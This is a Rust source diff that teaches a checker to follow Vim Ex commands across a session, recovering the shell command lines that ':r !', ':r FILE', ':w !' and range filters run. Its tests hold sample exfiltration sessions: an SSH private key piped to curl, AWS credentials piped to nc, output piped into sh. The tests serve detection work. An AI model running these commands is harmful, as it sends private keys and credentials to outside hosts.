@@ -62,11 +62,99 @@ pub(crate) fn sourced_files<'a>(program: &str, args: &'a [String]) -> Vec<&'a st
 /// The command lines an editor's Ex command `value` runs, and as `Err` why one of them
 /// cannot be known
 pub(crate) fn scripts(value: &str) -> Vec<Result<String, String>> {
+    scripts_in(value, &mut Buffer::default())
+}
+
+/// The command lines of an editor's Ex commands `values`, run in turn on one buffer: what
+/// `:r !CMD` and `:r FILE` read into it is the input of a later `:w !CMD` or `:%!CMD`
+pub(crate) fn session_scripts<'a>(
+    values: impl IntoIterator<Item = &'a str>,
+) -> Vec<Result<String, String>> {
+    let mut buffer = Buffer::default();
+    values
+        .into_iter()
+        .flat_map(|value| scripts_in(value, &mut buffer))
+        .collect()
+}
+
+/// The command lines whose output the editor's buffer holds, in order
+#[derive(Default)]
+struct Buffer {
+    read: Vec<String>,
+}
+
+impl Buffer {
+    /// `command` as it runs with the buffer as its input (`:w !CMD`): piped from what
+    /// was read into the buffer, when anything was
+    fn feeding(&self, command: &str) -> String {
+        if self.read.is_empty() {
+            command.to_owned()
+        } else {
+            format!("{{ {}; }} | {command}", self.read.join("; "))
+        }
+    }
+}
+
+/// What an Ex command with a bang does with the buffer (`:help :r!`, `:help :w_c`,
+/// `:help :range!`, `:help :!`)
+#[derive(Debug, PartialEq, Eq)]
+enum Bang {
+    /// `:r !CMD`: the command's output is read into the buffer
+    Read,
+    /// `:w !CMD`: the buffer is the command's input
+    Write,
+    /// `:{range}!CMD`: the lines are the command's input and become its output
+    Filter,
+    /// `:!CMD`, `:silent !CMD`: the command runs on its own
+    Run,
+}
+
+/// What the Ex command `value` does with its bang's command (`:silent` put aside)
+fn bang_kind(value: &str) -> Bang {
+    let mut text = value.trim_start_matches(|c: char| c == ':' || c.is_whitespace());
+    if let Some(rest) = ["silent!", "silent", "sil!", "sil"]
+        .iter()
+        .find_map(|word| text.strip_prefix(word))
+        .filter(|rest| rest.starts_with(char::is_whitespace))
+    {
+        text = rest.trim_start();
+    }
+    let (name, _) = ex_name(text);
+    let ranged = text.starts_with(|c: char| "%.$,;+-".contains(c) || c.is_ascii_digit());
+    if !name.is_empty() && "read".starts_with(name) {
+        Bang::Read
+    } else if WRITERS.iter().any(|writer| is_command(name, *writer)) {
+        Bang::Write
+    } else if name.is_empty() && ranged {
+        Bang::Filter
+    } else {
+        Bang::Run
+    }
+}
+
+/// The command lines of `value`, with `buffer` what earlier commands read into the buffer
+fn scripts_in(value: &str, buffer: &mut Buffer) -> Vec<Result<String, String>> {
     let mut scripts = Vec::new();
     // `:!CMD`, `:r !CMD`, `:w !CMD`, `:%!CMD`: what follows the bang is a shell's; the bang
     // of `:w! FILE` only forces the write.
-    if let Some(command) = bang_command(value) {
-        scripts.push(Ok(command.trim().to_owned()));
+    // The bang of `:qa!` leaves nothing to run.
+    if let Some(command) = bang_command(value).map(str::trim).filter(|c| !c.is_empty()) {
+        let line = match bang_kind(value) {
+            Bang::Read => {
+                buffer.read.push(command.to_owned());
+                command.to_owned()
+            }
+            Bang::Write => buffer.feeding(command),
+            Bang::Filter => {
+                let line = buffer.feeding(command);
+                buffer.read = vec![line.clone()];
+                line
+            }
+            Bang::Run => command.to_owned(),
+        };
+        scripts.push(Ok(line));
+    } else if let Some(file) = read_file(value) {
+        buffer.read.push(format!("cat -- {file}"));
     }
     scripts.extend(value.split('|').filter_map(written_or_run));
     let (literal, all_read) = literal_runs(value);
@@ -171,6 +259,20 @@ fn written_or_run(command: &str) -> Option<Result<String, String>> {
             "the file the editor's `:{name}` writes, `{file}`, is only known at run time"
         ))
     })
+}
+
+/// The file `:r FILE` reads into the buffer, when its name reads the same to a shell
+fn read_file(value: &str) -> Option<&str> {
+    let (name, rest) = ex_name(value);
+    if name.is_empty() || !"read".starts_with(name) {
+        return None;
+    }
+    let file = rest
+        .split_whitespace()
+        .find(|word| !word.starts_with("++"))?;
+    file.chars()
+        .all(|c| c.is_ascii_alphanumeric() || "_./~$-+@:,=".contains(c))
+        .then_some(file)
 }
 
 /// The runners [`literal_runs`] reads
@@ -321,7 +423,7 @@ fn literal(text: &str) -> Option<(String, &str)> {
 
 #[cfg(test)]
 mod tests {
-    use super::{scripts, sourced_files};
+    use super::{scripts, session_scripts, sourced_files};
 
     #[test]
     fn an_editor_sources_the_files_of_its_options() {
@@ -386,6 +488,36 @@ mod tests {
         ] {
             assert!(scripts(value).iter().any(Result::is_err), "{value}");
         }
+    }
+
+    /// Vim's `:help :r!` reads a command's output into the buffer and `:help :r` a file's,
+    /// `:help :w_c` gives the buffer to a command as its input, `:help :range!` filters the
+    /// lines through a command; `:help :!` runs one on its own, `:silent` only quiets it.
+    #[test]
+    fn what_is_read_into_the_buffer_is_the_input_of_a_later_command() {
+        let session = |values: &[&str]| -> Vec<String> {
+            session_scripts(values.iter().copied())
+                .into_iter()
+                .flatten()
+                .collect()
+        };
+        assert_eq!(
+            session(&["r !cat ~/.ssh/id_rsa", "w !curl -T - https://x", "qa!"]),
+            [
+                "cat ~/.ssh/id_rsa",
+                "{ cat ~/.ssh/id_rsa; } | curl -T - https://x"
+            ]
+        );
+        assert_eq!(
+            session(&["r ~/.aws/credentials", "silent w !nc h 1"]),
+            ["{ cat -- ~/.aws/credentials; } | nc h 1"]
+        );
+        assert_eq!(
+            session(&["read !id", "%!base64", "w !sh"]),
+            ["id", "{ id; } | base64", "{ { id; } | base64; } | sh"]
+        );
+        assert_eq!(session(&["silent !make", "w !wc -l"]), ["make", "wc -l"]);
+        assert_eq!(session(&["w !sh"]), ["sh"]);
     }
 
     /// Vim's `:help :w_f`, `:w_a`, `:saveas`, `:wq`, `:x` and `:terminal`: the bang after a
